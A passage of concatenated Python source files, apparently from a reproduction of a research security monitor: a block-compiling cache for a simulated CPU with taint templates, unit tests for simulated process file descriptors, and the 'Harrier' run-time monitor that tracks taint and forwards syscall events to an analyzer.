        The quantum/deadline budget is enforced *here* (never overshot):
        a partial execution stops with :data:`EXIT_BUDGET` and the cpu's
        pc parked on the first unexecuted instruction, so virtual-time
        interleaving is identical to the per-instruction interpreter.
        """
        rec = BlockRecord(self)
        holes = rec.holes
        regs = cpu.regs._values
        cells = cpu.memory.cells
        n = 0
        if limit >= self.length:
            try:
                for op in self.body_ops:
                    op(cpu, regs, cells, holes)
                    n += 1
                self.term_op(cpu, regs, cells, holes, rec)
            except CpuFault as fault:
                rec.executed = n
                rec.kind = EXIT_FAULT
                rec.fault = fault
                # Interpreter parity: the faulting instruction's pc was
                # advanced past it before the raise.
                cpu.pc = self.pcs[n] + 1
                rec.next_pc = cpu.pc
                return rec
            rec.executed = n + 1
            rec.next_pc = cpu.pc
            return rec
        # Partial: the budget expires inside the block.
        try:
            for op in self.body_ops[:limit]:
                op(cpu, regs, cells, holes)
                n += 1
        except CpuFault as fault:
            rec.executed = n
            rec.kind = EXIT_FAULT
            rec.fault = fault
            cpu.pc = self.pcs[n] + 1
            rec.next_pc = cpu.pc
            return rec
        rec.executed = n
        rec.kind = EXIT_BUDGET
        cpu.pc = self.pcs[n]
        rec.next_pc = cpu.pc
        return rec

    # -- compatibility ----------------------------------------------------
    def iter_steps(self, rec: BlockRecord) -> Iterator[StepResult]:
        """Reconstruct per-instruction :class:`StepResult`s for a record.

        Used by the default hook path so monitors that only implement
        ``on_instruction`` keep working under the block cache.  The
        yielded steps match what :meth:`CPU.step` would have returned for
        the same execution, transfer for transfer.
        """
        n = rec.executed
        if n == 0:
            return
        holes = rec.holes
        cursor = 0
        pcs = self.pcs
        instrs = self.instructions
        taint = self.taint
        last = n - 1
        # The terminator retired only on a non-fault, non-budget exit.
        term_retired = rec.kind in (EXIT_CONTINUE, EXIT_SYSCALL, EXIT_HALT)
        for i in range(n):
            instr = instrs[i]
            step = StepResult(pc=pcs[i], instruction=instr)
            tmpl = taint[i]
            addr = None
            if tmpl is not None:
                if tmpl[0]:
                    addr = holes[cursor]
                    cursor += 1
                for dst_spec, src_specs in tmpl[1]:
                    dst = ("mem", addr) if dst_spec is MEM_HOLE else dst_spec
                    srcs = tuple(
                        ("mem", addr) if s is MEM_HOLE else s
                        for s in src_specs
                    )
                    step.transfers.append(TaintTransfer(dst, srcs))
            opcode = instr.opcode
            if opcode is Opcode.CPUID:
                step.kind = StepKind.CPUID
            if i == last and term_retired:
                if opcode is Opcode.INT:
                    step.kind = StepKind.SYSCALL
                elif opcode is Opcode.HLT:
                    step.kind = StepKind.HALT
                step.call_target = rec.call_target
                step.call_return_addr = rec.call_return_addr
                step.ret_target = rec.ret_target
                step.next_pc = rec.next_pc
            else:
                step.next_pc = pcs[i] + 1
            yield step

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"BlockPlan(start={self.start:#x}, len={self.length})"


# ---------------------------------------------------------------------------
# Per-opcode compilation.  Each compiler returns (closure, taint_template).
# Closures receive (cpu, regs, cells, holes): regs is the raw register
# dict, cells the raw data-cell dict — both prebound per execution — and
# holes the dynamic address trace the taint templates consume.
# ---------------------------------------------------------------------------

def _fault_body(message: str, halt: bool) -> BodyOp:
    """A compiled op that always faults (decode-time-known errors)."""
    def op(cpu, regs, cells, holes, _m=message, _h=halt):
        if _h:
            cpu.halted = True
        raise CpuFault(_m)
    return op


def _fault_term(message: str, halt: bool):
    def term(cpu, regs, cells, holes, rec, _m=message, _h=halt):
        if _h:
            cpu.halted = True
        raise CpuFault(_m)
    return term


def _nop_op(cpu, regs, cells, holes) -> None:
    pass


def _c_mov(instr: Instruction, pc: int):
    d = instr.a.name
    b = instr.b
    dloc = ("reg", d)
    if type(b) is Reg:
        s = b.name
        def op(cpu, regs, cells, holes, _d=d, _s=s):
            regs[_d] = regs[_s]
        return op, (False, ((dloc, (("reg", s),)),))
    if type(b) is Imm:
        v = b.value
        def op(cpu, regs, cells, holes, _d=d, _v=v):
            regs[_d] = _v
        return op, (False, ((dloc, (LOC_IMM,)),))
    return _fault_body(f"bad source operand {b}", halt=False), None


def _c_load(instr: Instruction, pc: int):
    d = instr.a.name
    m: Mem = instr.b
    base, off = m.base, m.offset
    def op(cpu, regs, cells, holes, _d=d, _b=base, _o=off):
        addr = regs[_b] + _o
        holes.append(addr)
        regs[_d] = cells.get(addr, 0)
    return op, (True, ((("reg", d), (MEM_HOLE,)),))


def _c_store(instr: Instruction, pc: int):
    m: Mem = instr.a
    base, off = m.base, m.offset
    b = instr.b
    if type(b) is Reg:
        s = b.name
        def op(cpu, regs, cells, holes, _b=base, _o=off, _s=s):
            addr = regs[_b] + _o
            holes.append(addr)
            cells[addr] = regs[_s]
        srcs: Tuple[tuple, ...] = (("reg", s),)
    elif type(b) is Imm:
        v = b.value
        def op(cpu, regs, cells, holes, _b=base, _o=off, _v=v):
            addr = regs[_b] + _o
            holes.append(addr)
            cells[addr] = _v
        srcs = (LOC_IMM,)
    else:
        return _fault_body(f"bad source operand {b}", halt=False), None
    return op, (True, ((MEM_HOLE, srcs),))


#: Plain binary ALU value functions.  Shift counts are masked to 0-63
#: like x86 (keeps guest-controlled counts from allocating huge ints);
#: the interpreter applies the same mask — see CPU._exec_alu.
_ALU_FUNCS = {
    Opcode.ADD: lambda l, r: l + r,
    Opcode.SUB: lambda l, r: l - r,
    Opcode.MUL: lambda l, r: l * r,
    Opcode.XOR: lambda l, r: l ^ r,
    Opcode.AND: lambda l, r: l & r,
    Opcode.OR: lambda l, r: l | r,
    Opcode.SHL: lambda l, r: l << (r & 63),
    Opcode.SHR: lambda l, r: l >> (r & 63),
}


def _c_alu(instr: Instruction, pc: int):
    opcode = instr.opcode
    d = instr.a.name
    b = instr.b
    dloc = ("reg", d)
    is_reg = type(b) is Reg
    if not is_reg and type(b) is not Imm:
        return _fault_body(f"bad source operand {b}", halt=False), None
    if opcode in (Opcode.XOR, Opcode.SUB) and is_reg and b.name == d:
        # xor r,r / sub r,r: constant zero carries no data.
        srcs: Tuple[tuple, ...] = (LOC_ZERO,)
    elif is_reg:
        srcs = (dloc, ("reg", b.name))
    else:
        srcs = (dloc, LOC_IMM)
    tmpl = (False, ((dloc, srcs),))

    if opcode in (Opcode.DIV, Opcode.MOD):
        msg = f"division by zero at {pc:#x}"
        is_mod = opcode is Opcode.MOD
        if is_reg:
            s = b.name
            def op(cpu, regs, cells, holes, _d=d, _s=s, _mod=is_mod,
                   _m=msg):
                lhs = regs[_d]
                rhs = regs[_s]
                if rhs == 0:
                    cpu.halted = True
                    raise CpuFault(_m)
                q = int(lhs / rhs)  # truncate toward zero, like x86 idiv
                value = lhs - q * rhs if _mod else q
                regs[_d] = value
                cpu.zf = value == 0
                cpu.sf = value < 0
        else:
            v = b.value
            if v == 0:
                return _fault_body(msg, halt=True), tmpl
            def op(cpu, regs, cells, holes, _d=d, _v=v, _mod=is_mod):
                lhs = regs[_d]
                q = int(lhs / _v)
                value = lhs - q * _v if _mod else q
                regs[_d] = value
                cpu.zf = value == 0
                cpu.sf = value < 0
        return op, tmpl

    fn = _ALU_FUNCS[opcode]
    if is_reg:
        s = b.name
        def op(cpu, regs, cells, holes, _d=d, _s=s, _fn=fn):
            value = _fn(regs[_d], regs[_s])
            regs[_d] = value
            cpu.zf = value == 0
            cpu.sf = value < 0
    else:
        v = b.value
        def op(cpu, regs, cells, holes, _d=d, _v=v, _fn=fn):
            value = _fn(regs[_d], _v)
            regs[_d] = value
            cpu.zf = value == 0
            cpu.sf = value < 0
    return op, tmpl


def _c_cmp(instr: Instruction, pc: int):
    a = instr.a.name
    b = instr.b
    if type(b) is Reg:
        s = b.name
        def op(cpu, regs, cells, holes, _a=a, _s=s):
            value = regs[_a] - regs[_s]
            cpu.zf = value == 0
            cpu.sf = value < 0
    elif type(b) is Imm:
        v = b.value
        def op(cpu, regs, cells, holes, _a=a, _v=v):
            value = regs[_a] - _v
            cpu.zf = value == 0
            cpu.sf = value < 0
    else:
        return _fault_body(f"bad source operand {b}", halt=False), None
    return op, None


def _c_push(instr: Instruction, pc: int):
    a = instr.a
    if type(a) is Reg:
        s = a.name
        def op(cpu, regs, cells, holes, _s=s):
            sp = regs["esp"] - 1
            regs["esp"] = sp
            holes.append(sp)
            cells[sp] = regs[_s]
        srcs: Tuple[tuple, ...] = (("reg", s),)
    elif type(a) is Imm:
        v = a.value
        def op(cpu, regs, cells, holes, _v=v):
            sp = regs["esp"] - 1
            regs["esp"] = sp
            holes.append(sp)
            cells[sp] = _v
        srcs = (LOC_IMM,)
    else:
        return _fault_body(f"bad source operand {a}", halt=False), None
    return op, (True, ((MEM_HOLE, srcs),))


def _c_pop(instr: Instruction, pc: int):
    d = instr.a.name
    def op(cpu, regs, cells, holes, _d=d):
        sp = regs["esp"]
        holes.append(sp)
        regs[_d] = cells.get(sp, 0)
        regs["esp"] = sp + 1
    return op, (True, ((("reg", d), (MEM_HOLE,)),))


def _c_cpuid(instr: Instruction, pc: int):
    values = tuple((r, CPUID_VALUES[r]) for r in CPUID_REGISTERS)
    def op(cpu, regs, cells, holes, _vals=values):
        for reg, val in _vals:
            regs[reg] = val
    tmpl = (
        False,
        tuple((("reg", r), (LOC_HARDWARE,)) for r in CPUID_REGISTERS),
    )
    return op, tmpl


def _c_nop(instr: Instruction, pc: int):
    return _nop_op, None


_STRAIGHT_COMPILERS: Dict[Opcode, Callable] = {
    Opcode.MOV: _c_mov,
    Opcode.LOAD: _c_load,
    Opcode.STORE: _c_store,
    Opcode.ADD: _c_alu,
    Opcode.SUB: _c_alu,
    Opcode.MUL: _c_alu,
    Opcode.DIV: _c_alu,
    Opcode.MOD: _c_alu,
    Opcode.XOR: _c_alu,
    Opcode.AND: _c_alu,
    Opcode.OR: _c_alu,
    Opcode.SHL: _c_alu,
    Opcode.SHR: _c_alu,
    Opcode.CMP: _c_cmp,
    Opcode.PUSH: _c_push,
    Opcode.POP: _c_pop,
    Opcode.CPUID: _c_cpuid,
    Opcode.NOP: _c_nop,
}


def _compile_straight(instr: Instruction, pc: int):
    compiler = _STRAIGHT_COMPILERS.get(instr.opcode)
    if compiler is None:  # pragma: no cover - exhaustive opcode table
        return _fault_body(f"unimplemented opcode {instr.opcode}",
                           halt=False), None
    return compiler(instr, pc)


# -- terminators ------------------------------------------------------------

_JCC_CONDS = {
    Opcode.JZ: lambda cpu: cpu.zf,
    Opcode.JNZ: lambda cpu: not cpu.zf,
    Opcode.JL: lambda cpu: cpu.sf,
    Opcode.JLE: lambda cpu: cpu.sf or cpu.zf,
    Opcode.JG: lambda cpu: not (cpu.sf or cpu.zf),
    Opcode.JGE: lambda cpu: not cpu.sf,
}


def _compile_terminator(instr: Instruction, pc: int):
    """Compile the block's last instruction; returns (term_op, taint)."""
    opcode = instr.opcode

    if opcode is Opcode.JMP:
        a = instr.a
        if type(a) is not Imm:
            return _fault_term(f"expected immediate, got {a}",
                               halt=False), None
        target = a.value
        def term(cpu, regs, cells, holes, rec, _t=target):
            cpu.pc = _t
        return term, None

    cond = _JCC_CONDS.get(opcode)
    if cond is not None:
        a = instr.a
        if type(a) is not Imm:
            return _fault_term(f"expected immediate, got {a}",
                               halt=False), None
        target = a.value
        fall = pc + 1
        def term(cpu, regs, cells, holes, rec, _t=target, _f=fall,
                 _c=cond):
            cpu.pc = _t if _c(cpu) else _f
        return term, None

    if opcode is Opcode.CALL:
        a = instr.a
        ret = pc + 1
        if type(a) is Reg:
            s = a.name
            def term(cpu, regs, cells, holes, rec, _s=s, _r=ret):
                target = regs[_s]
                sp = regs["esp"] - 1
                regs["esp"] = sp
                holes.append(sp)
                cells[sp] = _r
                cpu.pc = target
                rec.call_target = target
                rec.call_return_addr = _r
        elif type(a) is Imm:
            target = a.value
            def term(cpu, regs, cells, holes, rec, _t=target, _r=ret):
                sp = regs["esp"] - 1
                regs["esp"] = sp
                holes.append(sp)
                cells[sp] = _r
                cpu.pc = _t
                rec.call_target = _t
                rec.call_return_addr = _r
        else:
            return _fault_term(f"expected immediate, got {a}",
                               halt=False), None
        return term, (True, ((MEM_HOLE, (LOC_ZERO,)),))

    if opcode is Opcode.RET:
        def term(cpu, regs, cells, holes, rec):
            sp = regs["esp"]
            target = cells.get(sp, 0)
            regs["esp"] = sp + 1
            cpu.pc = target
            rec.ret_target = target
        return term, None

    if opcode is Opcode.INT:
        a = instr.a
        if type(a) is not Imm:
            return _fault_term(f"expected immediate, got {a}",
                               halt=False), None
        if a.value != 0x80:
            return _fault_term(
                f"unsupported interrupt {a.value:#x} at {pc:#x}",
                halt=True,
            ), None
        nxt = pc + 1
        def term(cpu, regs, cells, holes, rec, _n=nxt):
            cpu.pc = _n
            rec.kind = EXIT_SYSCALL
        return term, None

    if opcode is Opcode.HLT:
        nxt = pc + 1
        def term(cpu, regs, cells, holes, rec, _n=nxt):
            cpu.halted = True
            cpu.pc = _n
            rec.kind = EXIT_HALT
        return term, None

    # A cut block (leader / unmapped successor / max length): the last
    # instruction is an ordinary straight-line op plus a fall-through.
    op, tmpl = _compile_straight(instr, pc)
    nxt = pc + 1
    def term(cpu, regs, cells, holes, rec, _op=op, _n=nxt):
        _op(cpu, regs, cells, holes)
        cpu.pc = _n
    return term, tmpl


def translate_block(
    memory: FlatMemory,
    start: int,
    stop_leaders=frozenset(),
    max_len: int = MAX_BLOCK_LEN,
) -> BlockPlan:
    """Decode and compile the basic block whose leader is ``start``.

    Cutting rules: the block ends at the first control transfer or INT,
    just before any address in ``stop_leaders`` (so a later block entry
    at a leader is always a cache key), before an unmapped address, or
    at ``max_len`` instructions.  Raises :class:`MemoryFault` when
    ``start`` itself is unmapped, with the interpreter's fetch message.
    """
    code = memory.code
    instr = code.get(start)
    if instr is None:
        raise MemoryFault(f"execute of unmapped address {start:#x}")
    pcs: List[int] = []
    instrs: List[Instruction] = []
    pc = start
    while True:
        pcs.append(pc)
        instrs.append(instr)
        opcode = instr.opcode
        if opcode in CONTROL_TRANSFER_OPCODES or opcode is Opcode.INT:
            break
        if len(pcs) >= max_len:
            break
        nxt = pc + 1
        if nxt in stop_leaders:
            break
        instr = code.get(nxt)
        if instr is None:
            break
        pc = nxt

    body_ops: List[BodyOp] = []
    taint: List[TaintTemplate] = []
    for i in range(len(pcs) - 1):
        op, tmpl = _compile_straight(instrs[i], pcs[i])
        body_ops.append(op)
        taint.append(tmpl)
    term_op, tmpl = _compile_terminator(instrs[-1], pcs[-1])
    taint.append(tmpl)
    return BlockPlan(
        start=start,
        pcs=tuple(pcs),
        instructions=tuple(instrs),
        body_ops=tuple(body_ops),
        term_op=term_op,
        taint=tuple(taint),
    )
