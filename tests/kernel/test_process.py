"""Process / OpenFile unit tests."""

import pytest

from repro.isa import CPU, FlatMemory
from repro.kernel.filesystem import Node, NodeKind, O_RDONLY, O_RDWR, O_WRONLY
from repro.kernel.process import (
    OpenFile,
    Process,
    ProcessState,
    ResourceKind,
    ResourceRef,
)


def make_process(pid=1):
    memory = FlatMemory()
    return Process(
        pid=pid, ppid=0, memory=memory, cpu=CPU(memory),
        command="/bin/t", argv=["/bin/t"], env={"A": "1", "B": "2"},
    )


class TestOpenFile:
    def test_resource_ref(self):
        of = OpenFile(ResourceKind.FILE, "/x")
        assert of.resource() == ResourceRef(ResourceKind.FILE, "/x")
        assert str(of.resource()) == "FILE:/x"

    @pytest.mark.parametrize(
        "flags,readable,writable",
        [
            (O_RDONLY, True, False),
            (O_WRONLY, False, True),
            (O_RDWR, True, True),
        ],
    )
    def test_access_modes(self, flags, readable, writable):
        of = OpenFile(ResourceKind.FILE, "/x", flags=flags)
        assert of.readable() is readable
        assert of.writable() is writable

    def test_console_roles(self):
        stdin = OpenFile(ResourceKind.CONSOLE, "STDIN", console_role="stdin")
        stdout = OpenFile(ResourceKind.CONSOLE, "STDOUT",
                          console_role="stdout")
        assert stdin.readable() and not stdin.writable()
        assert stdout.writable() and not stdout.readable()

    def test_appending(self):
        from repro.kernel.filesystem import O_APPEND

        of = OpenFile(ResourceKind.FILE, "/x", flags=O_WRONLY | O_APPEND)
        assert of.appending()


class TestProcessFds:
    def test_install_auto_numbers_from_3(self):
        proc = make_process()
        a = proc.install_fd(OpenFile(ResourceKind.FILE, "/a"))
        b = proc.install_fd(OpenFile(ResourceKind.FILE, "/b"))
        assert (a, b) == (3, 4)

    def test_install_explicit_number(self):
        proc = make_process()
        assert proc.install_fd(OpenFile(ResourceKind.FILE, "/a"), fd=7) == 7
        assert proc.get_fd(7).name == "/a"

    def test_dup_shares_description_and_refcount(self):
        proc = make_process()
        of = OpenFile(ResourceKind.FILE, "/a")
        fd = proc.install_fd(of)
        dup_fd = proc.dup_fd(fd)
        assert proc.get_fd(dup_fd) is of
        assert of.refcount == 2

    def test_dup_of_missing_fd(self):
        assert make_process().dup_fd(42) is None

    def test_remove_decrements_refcount(self):
        proc = make_process()
        of = OpenFile(ResourceKind.FILE, "/a")
        fd = proc.install_fd(of)
        removed = proc.remove_fd(fd)
        assert removed is of
        assert of.refcount == 0
        assert proc.remove_fd(fd) is None


class TestProcessState:
    def test_alive(self):
        proc = make_process()
        assert proc.alive()
        proc.state = ProcessState.EXITED
        assert not proc.alive()

    def test_environ_text(self):
        proc = make_process()
        assert proc.environ_text() == "A=1\0B=2\0"

    def test_repr(self):
        assert "pid=1" in repr(make_process())
