"""Harrier: the run-time monitor (paper section 7).

Harrier virtualizes the application (Figure 4): it receives every
architectural, OS, and library-level event from the simulated kernel
through the :class:`KernelHooks` interface and

* propagates multi-source taint per instruction (``InstructionDataFlow``),
* counts application basic-block executions (``CodeExecutionPatterns``),
* short-circuits name-translating library routines (``RoutineShortCircuit``),
* tags loaded binaries BINARY and the initial stack USER INPUT,
* generates semantic events at syscalls (``SyscallEventGenerator``) and
  forwards them to the analyzer (Secpert), pausing the process until the
  analysis — and, on a warning, the user's continue/kill decision — is in.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass
from time import perf_counter
from typing import TYPE_CHECKING, Deque, Dict, List, Optional, Tuple

from repro.harrier.analyzer import (
    DecisionPolicy,
    EventAnalyzer,
    always_continue,
)
from repro.harrier.bbfreq import CodeExecutionPatterns
from repro.harrier.config import HarrierConfig
from repro.harrier.dataflow import InstructionDataFlow
from repro.harrier.events import SecurityEvent
from repro.harrier.routines import RoutineShortCircuit
from repro.harrier.state import ProcessShadow
from repro.harrier.syscall_events import SyscallEventGenerator
from repro.isa.cpu import StepResult
from repro.kernel.hooks import KernelHooks
from repro.kernel.kernel import Kernel
from repro.kernel.loader import LoadedImage
from repro.kernel.process import Process
from repro.taint.tags import DataSource, TagSet
from repro.telemetry import (
    CATEGORY_ANALYSIS,
    STAGE_ANALYSIS,
    STAGE_BBFREQ,
    STAGE_DATAFLOW,
)
from repro.telemetry.provenance import ProvenanceRecorder

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.telemetry import Telemetry

_SHADOW_KEY = "harrier.shadow"


@dataclass(frozen=True)
class MonitorFault:
    """A contained failure of the monitor's own analysis machinery.

    When a rule (or a whole analyzer) raises while processing an event,
    Harrier quarantines the failure instead of propagating it into the
    monitored run: the guest keeps executing, and this record — the
    ``MONITOR_FAULT`` warning — surfaces in the :class:`RunReport` so the
    degradation is visible rather than silent.
    """

    rule: str          # "MONITOR_FAULT" unless a specific rule is known
    error: str         # "ExceptionType: message"
    stage: str         # 'analyze' | 'decision'
    event: object = None

    def render(self) -> str:
        return f"Warning [MONITOR_FAULT/{self.stage}] {self.error}"

    def __str__(self) -> str:  # pragma: no cover - debug aid
        return self.render()


class Harrier(KernelHooks):
    def __init__(
        self,
        analyzer: Optional[EventAnalyzer] = None,
        config: Optional[HarrierConfig] = None,
        decision: DecisionPolicy = always_continue,
        interner=None,
    ) -> None:
        self.analyzer = analyzer or EventAnalyzer()
        self.config = config or HarrierConfig()
        self.decision = decision
        #: Cached (config is frozen): the per-block dispatch flags, so
        #: the on_block hot path loads slots instead of chasing the
        #: config dataclass per block.
        self._fastpath = self.config.taint_fastpath
        self._track_df = self.config.track_dataflow
        self._track_bb = self.config.track_bb_frequency
        self._short_circuit = self.config.short_circuit_routines
        self.dataflow = InstructionDataFlow(interner=interner)
        self.bbfreq = CodeExecutionPatterns()
        self.routines = RoutineShortCircuit(self.dataflow)
        #: The per-run evidence recorder (None when disabled — hot paths
        #: pay one cached None check, NullSink-style).
        self.provenance = (
            ProvenanceRecorder() if self.config.provenance else None
        )
        self._prov = self.provenance
        self.event_gen = SyscallEventGenerator(
            self.config, self.dataflow, self.bbfreq,
            provenance=self.provenance,
        )
        self.kernel: Optional[Kernel] = None
        #: Every event emitted, in order (when keep_event_log is set).
        #: Bounded by config.max_event_log: a deque(maxlen=cap) evicts the
        #: oldest entry in O(1) and every drop is counted in
        #: ``events_dropped``.
        self._events: Deque[SecurityEvent] = deque(
            maxlen=self.config.max_event_log
        )
        #: Events discarded because the bounded log was full.
        self.events_dropped: int = 0
        #: Blocks whose taint effects were applied via the summary fast
        #: path / the per-transfer slow path (always counted — the perf
        #: benchmarks read them without a metrics registry attached).
        self.fastpath_blocks: int = 0
        self.slowpath_blocks: int = 0
        #: (event, warning) pairs where the decision policy said "kill".
        self.kills: List[Tuple[SecurityEvent, object]] = []
        #: Contained analysis failures (see :class:`MonitorFault`).
        self.monitor_faults: List[MonitorFault] = []
        # Telemetry wiring (attach_telemetry); None keeps hot paths free.
        self._metrics = None
        self._tracer = None
        self._profiler = None
        self._c_emitted = None
        self._c_dropped = None

    @property
    def events(self) -> List[SecurityEvent]:
        """The (possibly capped) event log, oldest first."""
        return list(self._events)

    # -- wiring -------------------------------------------------------------
    def bind(self, kernel: Kernel) -> "Harrier":
        """Associate with the kernel whose hooks we implement."""
        self.kernel = kernel
        return self

    def attach_telemetry(self, telemetry: "Telemetry") -> "Harrier":
        """Wire the observability hub (see :mod:`repro.telemetry`)."""
        self._tracer = telemetry.tracer
        self._profiler = telemetry.profiler
        if telemetry.is_enabled:
            m = telemetry.metrics
            self._metrics = m
            self._c_emitted = m.counter("harrier_events_emitted_total")
            self._c_dropped = m.counter("harrier_events_dropped_total")
        else:
            self._metrics = None
        return self

    def shadow(self, proc: Process) -> ProcessShadow:
        """The per-process monitor state (one dict probe on the hot path)."""
        shadow = proc.meta.get(_SHADOW_KEY)
        if shadow is None:
            shadow = proc.meta[_SHADOW_KEY] = ProcessShadow()
        return shadow

    @property
    def _now(self) -> int:
        return self.kernel.now if self.kernel is not None else 0

    # -- loader events (sections 7.3.2 / 7.3.3) ------------------------------
    def on_image_load(self, proc: Process, loaded: LoadedImage) -> None:
        shadow = self.shadow(proc)
        image_name = loaded.name
        is_app = loaded.is_app and image_name not in self.config.trusted_images
        leaders = shadow.app_leaders if is_app else shadow.lib_leaders
        for addr in loaded.abs_bb_leaders():
            leaders[addr] = True
        for addr in range(loaded.text_start, loaded.text_end):
            shadow.code_image[addr] = loaded
        for symbol in self.config.short_circuit_symbols:
            addr = loaded.symbol_addr(symbol)
            if addr is not None:
                shadow.routine_addrs[addr] = symbol
        if self.config.track_dataflow:
            binary_tags = self.dataflow.binary_tag(image_name)
            shadow.memory.set_range(
                loaded.data_start,
                loaded.end - loaded.data_start,
                binary_tags,
            )
            if self._prov is not None:
                self._prov.record_source(
                    binary_tags, pid=proc.pid, tick=self._now,
                    resource=image_name, via="image_load",
                )

    def on_initial_stack(self, proc: Process, start: int, end: int) -> None:
        if not self.config.track_dataflow:
            return
        if self.config.complete_dataflow:
            tags = TagSet.of(DataSource.USER_INPUT)
        else:
            tags = self.dataflow.binary_tag(proc.command)
        self.shadow(proc).memory.set_range(start, end - start, tags)
        if self._prov is not None:
            self._prov.record_source(
                tags, pid=proc.pid, tick=self._now,
                resource=proc.command, via="initial_stack",
            )

    # -- per-instruction events (section 7.3.1 / 7.4 / 7.2) --------------------
    def on_instruction(self, proc: Process, step: StepResult) -> None:
        shadow = self.shadow(proc)
        if self._profiler is None:
            if self.config.track_dataflow:
                self.dataflow.apply(shadow, step)
                if self.config.short_circuit_routines:
                    self.routines.on_step(proc, shadow, step)
            if self.config.track_bb_frequency:
                self.bbfreq.observe(shadow, step.pc)
            return
        # Profiled path: attribute each component's wall time to its §8
        # stage.  Kept separate so the unprofiled path pays one None check.
        prof = self._profiler
        if self.config.track_dataflow:
            t0 = perf_counter()
            self.dataflow.apply(shadow, step)
            if self.config.short_circuit_routines:
                self.routines.on_step(proc, shadow, step)
            prof.add(STAGE_DATAFLOW, perf_counter() - t0)
        if self.config.track_bb_frequency:
            t0 = perf_counter()
            self.bbfreq.observe(shadow, step.pc)
            prof.add(STAGE_BBFREQ, perf_counter() - t0)

    def on_block(self, proc: Process, rec) -> None:
        """Batched per-block observation (the block-cache hot path).

        One call replaces ``executed`` on_instruction calls: the
        dataflow templates are applied in a single pass, the routine
        short-circuit sees the record only when its terminator was a
        CALL/RET (those always end a block, so register state at hook
        time matches the per-step path), and BB frequency is observed
        once at the block's entry pc — interior pcs are never leaders by
        construction of the translation cut.
        """
        if rec.executed == 0:
            return
        # self.shadow(proc), inlined (hottest call site).
        meta = proc.meta
        shadow = meta.get(_SHADOW_KEY)
        if shadow is None:
            shadow = meta[_SHADOW_KEY] = ProcessShadow()
        if self._profiler is None:
            plan = rec.plan
            if self._track_df:
                # _apply_block_dataflow, inlined; the compiled applier
                # is called straight off the plan.
                if (
                    self._fastpath
                    and rec.executed == plan.length
                    and (
                        plan.taint_apply
                        or self.dataflow.install_applier(plan)
                    )(shadow, rec)
                ):
                    self.fastpath_blocks += 1
                    if self._prov is not None:
                        self._prov.observe_block(plan)
                else:
                    self.slowpath_blocks += 1
                    self.dataflow.apply_block(shadow, rec)
                if self._short_circuit and (
                    rec.call_target is not None
                    or rec.ret_target is not None
                ):
                    self.routines.on_step(proc, shadow, rec)
            if self._track_bb:
                # self.bbfreq.observe, inlined.
                pc = plan.start
                if pc in shadow.app_leaders:
                    shadow.bb_counts[pc] = shadow.bb_counts.get(pc, 0) + 1
                    shadow.last_app_bb = pc
            return
        prof = self._profiler
        config = self.config
        if config.track_dataflow:
            t0 = perf_counter()
            self._apply_block_dataflow(shadow, rec)
            if config.short_circuit_routines and (
                rec.call_target is not None or rec.ret_target is not None
            ):
                self.routines.on_step(proc, shadow, rec)
            prof.add(STAGE_DATAFLOW, perf_counter() - t0)
        if config.track_bb_frequency:
            t0 = perf_counter()
            self.bbfreq.observe(shadow, rec.plan.start)
            prof.add(STAGE_BBFREQ, perf_counter() - t0)

    def _apply_block_dataflow(self, shadow: ProcessShadow, rec) -> None:
        """Apply one block's taint effects, fast path first.

        The summary fast path is valid only for full executions (a
        partial block's templates were only partially applied) and bails
        on intra-block load/store aliasing; everything else replays the
        templates per transfer.
        """
        if (
            self._fastpath
            and rec.executed == rec.plan.length
            and self.dataflow.apply_summary(shadow, rec)
        ):
            self.fastpath_blocks += 1
            return
        self.slowpath_blocks += 1
        self.dataflow.apply_block(shadow, rec)

    # -- syscall events (section 7.1) -----------------------------------------
    def on_syscall_pre(
        self,
        proc: Process,
        sysno: int,
        args: Tuple[int, int, int, int, int],
        info: Dict[str, object],
    ) -> bool:
        shadow = self.shadow(proc)
        events = self.event_gen.pre_events(
            proc, shadow, self._now, sysno, args, info
        )
        return self._dispatch(events)

    def on_syscall_post(
        self,
        proc: Process,
        sysno: int,
        args: Tuple[int, int, int, int, int],
        result: int,
        info: Dict[str, object],
    ) -> None:
        shadow = self.shadow(proc)
        events = self.event_gen.post_effects(
            proc, shadow, self._now, sysno, args, result, info
        )
        # Post events cannot veto (the call already happened) but still
        # feed the analysis and may warn.
        self._dispatch(events)

    def _dispatch(self, events: List[SecurityEvent]) -> bool:
        """Feed events to the analyzer; False means "kill the process".

        Veto semantics: the *first* kill decision terminates the process,
        so remaining events of the batch are not dispatched — they
        describe a syscall that will never execute.  Analysis failures
        are contained (see :class:`MonitorFault`): a crashing rule must
        not take down the monitored run.
        """
        tracer = self._tracer
        prof = self._profiler
        for event in events:
            self._log_event(event)
            span = None
            if tracer is not None:
                span = tracer.start(
                    f"analyze {getattr(event, 'call_name', event)}",
                    CATEGORY_ANALYSIS,
                    self._now,
                    parent=(
                        self.kernel.current_syscall_span
                        if self.kernel is not None else None
                    ),
                    tid=getattr(event, "pid", 0),
                )
            t0 = perf_counter() if prof is not None else 0.0
            try:
                warnings = self.analyzer.analyze(event)
            except Exception as exc:  # noqa: BLE001 - containment boundary
                self._contain(event, exc, stage="analyze")
                if prof is not None:
                    prof.add(STAGE_ANALYSIS, perf_counter() - t0)
                if span is not None:
                    tracer.end(span, self._now, fault=True)
                continue
            if prof is not None:
                prof.add(STAGE_ANALYSIS, perf_counter() - t0)
            if span is not None:
                tracer.end(span, self._now, warnings=len(warnings))
            for warning in warnings:
                try:
                    proceed = self.decision(warning)
                except Exception as exc:  # noqa: BLE001
                    self._contain(event, exc, stage="decision")
                    proceed = True
                if not proceed:
                    self.kills.append((event, warning))
                    if self._metrics is not None:
                        self._metrics.counter("harrier_kills_total").inc()
                    return False
        return True

    def _log_event(self, event: SecurityEvent) -> None:
        if self._prov is not None:
            self._prov.observe_event(event)
        if self._c_emitted is not None:
            self._c_emitted.inc()
        if not self.config.keep_event_log:
            return
        log = self._events
        if log.maxlen is not None and len(log) >= log.maxlen:
            # append below evicts the oldest entry (or is a no-op when
            # maxlen == 0); either way one event is lost.
            self.events_dropped += 1
            if self._c_dropped is not None:
                self._c_dropped.inc()
        log.append(event)

    def _contain(self, event: SecurityEvent, exc: Exception,
                 stage: str) -> None:
        rule = getattr(exc, "rule_name", "MONITOR_FAULT")
        self.monitor_faults.append(
            MonitorFault(
                rule=str(rule),
                error=f"{type(exc).__name__}: {exc}",
                stage=stage,
                event=event,
            )
        )
        if self._metrics is not None:
            self._metrics.counter(
                "harrier_monitor_faults_total", stage=stage
